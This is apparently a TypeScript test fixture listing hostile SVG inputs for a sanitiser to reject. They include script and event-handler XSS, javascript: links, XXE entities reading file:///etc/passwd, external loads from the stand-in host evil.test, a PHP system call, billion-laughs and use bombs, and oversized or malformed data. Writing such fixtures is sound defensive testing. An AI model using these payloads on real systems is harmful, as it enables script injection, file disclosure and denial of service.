import { MARK, svg } from './drawings';

const repeated = (text: string, times: number) => text.repeat(times);
/** `use` of ten of the one before, so many levels. */
const bomb = (levels: number) =>
  Array.from(
    { length: levels },
    (_, level) =>
      `<g id="u${level + 1}">${repeated(level ? `<use href="#u${level}"/>` : '<path d="M0 0h1v1z"/>', 10)}</g>`,
  ).join('');
const PICTURE = 'data:image/png;base64,iVBORw0KGgo=';

/** SVGs that must not come through as they are. Small ones are written out, large ones made. */
export const HOSTILE_SVGS: Readonly<Record<string, () => Buffer>> = {
  'a script': () => svg(`${MARK}<script>alert(1)</script>`),
  'a script of another namespace': () =>
    svg(`${MARK}<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`),
  'a script in CDATA': () => svg(`${MARK}<script><![CDATA[alert(1)]]></script>`),
  'a script by reference': () => svg(`${MARK}<script href="https://evil.test/x.js"/>`),
  'event handlers': () =>
    svg('<rect width="9" height="9" onload="alert(1)" onclick="alert(1)"/>', 'viewBox="0 0 10 10" onload="alert(1)"'),
  'an event handler in an animation': () => svg(`${MARK}<animate attributeName="x" onbegin="alert(1)"/>`),
  'a set that writes href': () => svg(`<a><set attributeName="href" to="javascript:alert(1)"/>${MARK}</a>`),
  'a link to javascript:': () => svg(`<a href="javascript:alert(1)">${MARK}</a>`),
  'foreignObject with HTML': () =>
    svg(
      `${MARK}<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>`,
    ),
  'an iframe without namespace': () => svg(`${MARK}<iframe src="https://evil.test"/>`),
  'an embedded picture': () => svg(`${MARK}<image href="${PICTURE}" width="9" height="9"/>`),
  'a picture from elsewhere': () => svg(`${MARK}<image href="https://evil.test/track.png" width="9" height="9"/>`),
  'a picture of the server’s files': () => svg(`${MARK}<image href="file:///etc/passwd" width="9" height="9"/>`),
  'feImage in a filter': () => svg(`<filter id="f"><feImage href="https://evil.test/"/></filter>${MARK}`),
  'a use from elsewhere': () => svg(`${MARK}<use href="https://evil.test/x.svg#a"/>`),
  'a use of a file': () => svg(`${MARK}<use href="file:///etc/passwd#a"/>`),
  'a use of data:': () => svg(`${MARK}<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>`),
  'a use by xlink of javascript:': () =>
    svg(
      `${MARK}<use xlink:href="javascript:alert(1)"/>`,
      'viewBox="0 0 100 100" xmlns:xlink="http://www.w3.org/1999/xlink"',
    ),
  'paint from elsewhere': () => svg('<rect width="9" height="9" fill="url(https://evil.test/#p)"/>'),
  'paint from elsewhere in a style': () => svg('<rect width="9" height="9" style="fill:url(//evil.test/#p)"/>'),
  'a clip path from elsewhere': () => svg('<rect width="9" height="9" clip-path="url(https://evil.test/#c)"/>'),
  'a filter from elsewhere': () => svg('<rect width="9" height="9" style="filter:url(https://evil.test/#f)"/>'),
  'a style sheet': () => svg(`<style>@import url(https://evil.test/x.css); rect{fill:red}</style>${MARK}`),
  'a style with an expression': () =>
    svg('<rect width="9" height="9" style="fill:expression(alert(1));background:url(https://evil.test)"/>'),
  'xml-stylesheet': () => svg(MARK, undefined, '<?xml-stylesheet href="https://evil.test/x.css"?>'),
  'a PHP instruction': () => svg(`<?php system("id"); ?>${MARK}`),
  'an external entity': () =>
    svg(`${MARK}<title>&x;</title>`, undefined, '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  'an external DTD': () => svg(MARK, undefined, '<!DOCTYPE svg SYSTEM "https://evil.test/x.dtd">'),
  'a parameter entity': () => svg(MARK, undefined, '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.test/x"> %x;]>'),
  'a billion laughs': () => {
    const entities = Array.from(
      { length: 9 },
      (_, level) => `<!ENTITY e${level + 1} "${repeated(`&e${level};`, 10)}">`,
    ).join('');
    return svg('<desc>&e9;</desc>', undefined, `<!DOCTYPE svg [<!ENTITY e0 "lol">${entities}]>`);
  },
  'a quadratic blowup': () =>
    svg(repeated('&a;', 20_000), undefined, `<!DOCTYPE svg [<!ENTITY a "${repeated('a', 20_000)}">]>`),
  'unknown entities': () => svg(`${MARK}&nbsp;`),
  'a use bomb': () => svg(`<defs>${bomb(12)}</defs><use href="#u12"/>`),
  'a use bomb of symbols': () =>
    svg(
      `${Array.from(
        { length: 12 },
        (_, level) => `<symbol id="y${level}">${repeated(level ? `<use href="#y${level - 1}"/>` : MARK, 8)}</symbol>`,
      ).join('')}<use href="#y11"/>`,
    ),
  'a use of itself': () => svg('<g id="a"><use href="#a"/></g>'),
  'uses of each other': () => svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  'a symbol of itself': () => svg('<symbol id="a"><use href="#a"/></symbol><use href="#a"/>'),
  'a use of the root': () => svg(`${MARK}<use href="#r"/>`, 'id="r" viewBox="0 0 100 100"'),
  'a clip path of itself': () =>
    svg(
      '<clipPath id="a"><rect width="5" height="5" clip-path="url(#a)"/></clipPath><g clip-path="url(#a)"><rect width="9" height="9"/></g>',
    ),
  'many nested clip paths': () =>
    svg(
      `<clipPath id="a"><rect width="50" height="50"/></clipPath>${repeated('<g clip-path="url(#a)">', 30)}${MARK}${repeated('</g>', 30)}`,
    ),
  'many clip paths side by side': () =>
    svg(
      `<clipPath id="a"><rect width="50" height="50"/></clipPath>${repeated(`<g clip-path="url(#a)">${MARK}</g>`, 3000)}`,
    ),
  text: () => svg('<text x="10" y="50" font-size="40">Brand</text>'),
  'a font from elsewhere': () =>
    svg(
      '<font-face font-family="x"><font-face-src><font-face-uri href="https://evil.test/f"/></font-face-src></font-face>',
    ),
  'deep nesting': () => svg(`${repeated('<g>', 100_000)}${MARK}${repeated('</g>', 100_000)}`),
  'deep nesting that never ends': () =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${repeated('<g>', 400_000)}`),
  'deep nesting of what is not drawn': () =>
    svg(`<metadata>${repeated('<x>', 100_000)}${repeated('</x>', 100_000)}</metadata>${MARK}`),
  'very many elements': () => svg(repeated('<path d="M0 0h1v1z"/>', 80_000)),
  'very many attributes': () =>
    svg(`<rect ${Array.from({ length: 50_000 }, (_, index) => `a${index}=""`).join(' ')} width="9" height="9"/>`),
  'one enormous attribute': () => svg(`<rect width="9" height="9" class="${repeated('a', 1_900_000)}"/>`),
  'an enormous comment': () => svg(`<!--${repeated('a ', 900_000)}-->${MARK}`),
  'gigantic path data': () => svg(`<path d="M0 0${repeated('L9 9L1 2', 230_000)}z"/>`),
  'path data of arcs': () => svg(`<path stroke="#000" d="M0 0${repeated('a9 9 0 018 3', 150_000)}"/>`),
  'a number of a million digits': () => svg(`<path d="M0 0L${repeated('9', 1_000_000)} 9"/>`),
  'numbers beyond everything': () => svg('<path d="M0 0L1e308 1e308L-1e308 9z"/>'),
  'numbers that are none': () => svg('<path d="M0 0LNaN NaNL9 9zInfinity"/>'),
  'path data with a script': () => svg('<path d="M0 0L9 9z&quot; onload=&quot;alert(1)"/>'),
  'path data of markup': () => svg('<path d="M0 0L9 9z&quot;/&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
  'an id of markup': () =>
    svg(
      '<clipPath id="&quot;&gt;&lt;script&gt;"><rect width="9" height="9"/></clipPath><g clip-path="url(#&quot;&gt;&lt;script&gt;)"><rect width="50" height="50"/></g>',
    ),
  'a colour of markup': () => svg('<rect width="9" height="9" fill="red&quot; onload=&quot;alert(1)"/>'),
  'a colour of prototypes': () => svg('<rect width="9" height="9" fill="__proto__" stroke="constructor"/>'),
  'a transform of NaN': () => svg(`<g transform="matrix(NaN 0 0 NaN 0 0)">${MARK}</g>`),
  'a transform of infinity': () => svg(`<g transform="scale(1e999)">${MARK}</g>`),
  'transforms that grow without end': () =>
    svg(`${repeated('<g transform="scale(1000)">', 30)}${MARK}${repeated('</g>', 30)}`),
  'transforms that shrink to nothing': () =>
    svg(`${repeated('<g transform="scale(.0001)">', 30)}${MARK}${repeated('</g>', 30)}`),
  'a transform of many parts': () => svg(`<g transform="${repeated('rotate(1)', 100_000)}">${MARK}</g>`),
  'a skew of ninety degrees': () => svg(`<g transform="skewX(90)">${MARK}</g>`),
  'an enormous viewBox': () => svg(MARK, 'viewBox="0 0 1e9 1e9"'),
  'a viewBox far away': () => svg(MARK, 'viewBox="999999 999999 100 100"'),
  'a viewBox of no width': () => svg(MARK, 'viewBox="0 0 0 100"'),
  'a viewBox of NaN': () => svg(MARK, 'viewBox="NaN NaN NaN NaN"'),
  'a viewBox as thin as a hair': () => svg(MARK, 'viewBox="0 0 100000 0.01"'),
  'a size of 50,000 × 50,000 pixels': () =>
    svg('<rect width="50000" height="50000"/>', 'width="50000px" height="50000px"'),
  'no size at all': () => svg(MARK, ''),
  'dashes without number': () => svg('<path d="M0 0L999999 9" stroke="#000" stroke-dasharray="0.000001"/>'),
  'dashes on many lines': () =>
    svg(`<g stroke="#000" stroke-dasharray=".01">${repeated('<path d="M0 0L100 100"/>', 5000)}</g>`),
  'an enormous stroke': () => svg('<path d="M0 0L9 9" stroke="#000" stroke-width="1e6" stroke-miterlimit="1e6"/>'),
  'a mask': () => svg(`<mask id="m"><rect width="50" height="50" fill="#fff"/></mask><g mask="url(#m)">${MARK}</g>`),
  'a filter larger than the sky': () =>
    svg(
      `<filter id="f" x="-1e6" width="2e6" y="-1e6" height="2e6"><feGaussianBlur stdDeviation="9999"/></filter><g filter="url(#f)">${MARK}</g>`,
    ),
  'a pattern of patterns': () =>
    svg(
      '<pattern id="p" width=".0001" height=".0001"><rect width="9" height="9" fill="url(#p)"/></pattern><rect width="90" height="90" fill="url(#p)"/>',
    ),
  'a gradient': () =>
    svg('<linearGradient id="g"><stop stop-color="red"/></linearGradient><rect width="9" height="9" fill="url(#g)"/>'),
  markers: () => svg('<marker id="m"><path d="M0 0h9v9z"/></marker><path d="M0 0L9 9" marker-end="url(#m)"/>'),
  'nothing to be seen': () => svg('<rect width="9" height="9" fill="none"/>'),
  'only white': () =>
    svg('<rect width="90" height="90" fill="#fff"/><rect width="9" height="9" fill="#000" visibility="hidden"/>'),
  HTML: () => Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'),
  'HTML with an SVG in it': () => Buffer.from(`<html><body>${svg(MARK)}<script>alert(1)</script></body></html>`),
  'XML that is no SVG': () =>
    Buffer.from(
      '<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
    ),
  'an SVG that is cut off': () => svg(MARK).subarray(0, 100),
  'two roots': () => Buffer.concat([svg(MARK), svg('<script>alert(1)</script>')]),
  'something behind its end': () => Buffer.concat([svg(MARK), Buffer.from('PK\x03\x04 a ZIP file')]),
  'UTF-16': () => Buffer.from(`\ufeff${svg(MARK)}`, 'utf16le'),
  'UTF-7': () => Buffer.from('+ADw-svg xmlns=+ACI-http://www.w3.org/2000/svg+ACI-+AD4-+ADw-script+AD4-'),
  'another encoding than it says': () =>
    Buffer.concat([Buffer.from('<?xml version="1.0" encoding="UTF-7"?>'), svg(MARK)]),
  'zero bytes': () => Buffer.concat([svg(MARK), Buffer.alloc(1000)]),
  'half characters': () =>
    Buffer.concat([
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><title>'),
      Buffer.from([0xc3, 0x28, 0xed, 0xa0, 0x80]),
      Buffer.from('</title></svg>'),
    ]),
  'a PDF within': () => svg(`${MARK}<desc>%PDF-1.7 1 0 obj</desc>`),
};
